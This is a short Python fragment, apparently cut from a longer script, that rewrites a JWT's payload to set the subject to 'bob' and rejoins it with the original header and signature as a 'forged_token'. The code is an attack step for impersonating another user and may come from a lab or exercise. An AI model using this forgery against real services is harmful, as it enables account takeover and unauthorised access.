# through json instead of replacing text
import json

claims = json.loads(text)
claims["sub"] = "bob"
body = base64.urlsafe_b64encode(json.dumps(claims).encode()).rstrip(b"=").decode()
forged_token = ".".join([header, body, signature])
